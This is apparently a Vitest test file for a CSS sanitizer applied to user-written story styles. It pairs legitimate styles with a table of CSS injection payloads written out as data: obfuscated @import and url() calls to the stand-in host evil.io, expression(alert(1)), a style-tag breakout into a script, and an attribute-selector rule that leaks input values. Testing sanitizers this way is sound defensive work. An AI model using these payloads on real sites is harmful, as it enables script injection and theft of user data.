import { describe, expect, it } from "vitest";
import { demoProjects } from "../../../api/src/seed/demo-settings";
import { sanitizeCssText } from "./sanitize-css";

describe("sanitizeCssText", () => {
  it("keeps the demo projects' story styles (the API's seed) with their meaning", () => {
    const written = demoProjects.map((project) => sanitizeCssText(project.storyStyles));
    expect(written).toEqual([
      ".story-title { font-family: Georgia,serif; color: #1d3557; }\n.story-button { background: #e63946; border-radius: 12px; }",
      ".story-title { font-weight: 800; letter-spacing: -0.01em; }",
      "",
    ]);
  });

  it("keeps the other styles a story is made of: media queries, colour functions, gradients, arithmetic", () => {
    const css = [
      "@media (max-width: 600px) { .story-title { font-size: clamp(20px, 4vw, 28px) !important; } }",
      ".story-button:hover, .story-card > p { color: rgb(29 53 87 / 80%); " +
        "background: linear-gradient(90deg, #fff 0%, hsl(0 0% 90%) 100%); }",
      '.story-card { padding: calc(var(--space, 8px) * 2); font-family: "Times New Roman", serif; }',
    ].join("\n");
    expect(sanitizeCssText(css)).toBe(
      [
        "@media (max-width:600px) { .story-title { font-size: clamp(20px,4vw,28px) !important; } }",
        ".story-button:hover,.story-card>p { color: rgb(29 53 87/80%); background: linear-gradient(90deg,#fff 0%,hsl(0 0% 90%) 100%); }",
        '.story-card { padding: calc(var(--space,8px)*2); font-family: "Times New Roman",serif; }',
      ].join("\n"),
    );
  });

  // Each payload sits next to a plain rule: the payload goes, the plain rule stays.
  it.each([
    ["an escaped @import", '@\\69mport "https://evil.io/x.css";'],
    ["an escaped @import, zero-padded", '@\\000069mport "https://evil.io/x.css";'],
    ["an escaped @import ending in a newline", '@\\69\nmport "https://evil.io/x.css";'],
    ["an escaped url()", "a { background: u\\72l(https://evil.io/p.png) }"],
    ["an escaped url() ending in a space", "a { background: u\\72 l(https://evil.io/p.png) }"],
    ["an escaped url() ending in a tab", "a { background: \\75\trl(https://evil.io/p.png) }"],
    ["a NUL escape in url()", "a { background: u\\0 rl(https://evil.io/p.png) }"],
    ["a comment in url()", "a { background: u/**/rl(https://evil.io/p.png) }"],
    ["image-set()", 'a { background-image: image-set("https://evil.io/p.png" 1x) }'],
    ["an escaped property", 'a { b\\61 ckground-image: image-set("https://evil.io/p.png" 1x) }'],
    ["-moz-binding", "a { -moz-binding: url(https://evil.io/x.xml#x) }"],
    ["behavior", "a { behavior: url(https://evil.io/x.htc) }"],
    ["expression()", "a { width: expression(alert(1)) }"],
    ["expression() with a comment", "a { width: expression/**/(alert(1)) }"],
    ["an escaped expression()", "a { width: e\\78pression(alert(1)) }"],
    ["a way out of the style element", 'a { font-family: "</style><script>alert(1)</script>" }'],
    ["a way out of the style element in a selector", "</style><script>alert(1)</script> a { color: red }"],
    ["@font-face", "@font-face { font-family: x; src: url(https://evil.io/f.woff) }"],
    ["an attribute selector", 'input[value^="a"] { background: url(https://evil.io/a) }'],
  ])("drops %s", (_name, payload) => {
    const clean = sanitizeCssText(`.story-title { color: #1d3557; }\n${payload}`);
    expect(clean.startsWith(".story-title { color: #1d3557; }")).toBe(true);
    expect(clean).not.toMatch(/[<\\]|evil|alert|import|url|image-set|binding|behavior|expression|font-face/i);
  });

  it("gives an empty string for no styles and for styles with nothing allowed", () => {
    expect(sanitizeCssText(null)).toBe("");
    expect(sanitizeCssText("@import url(x.css); a { behavior: x }")).toBe("");
  });
});
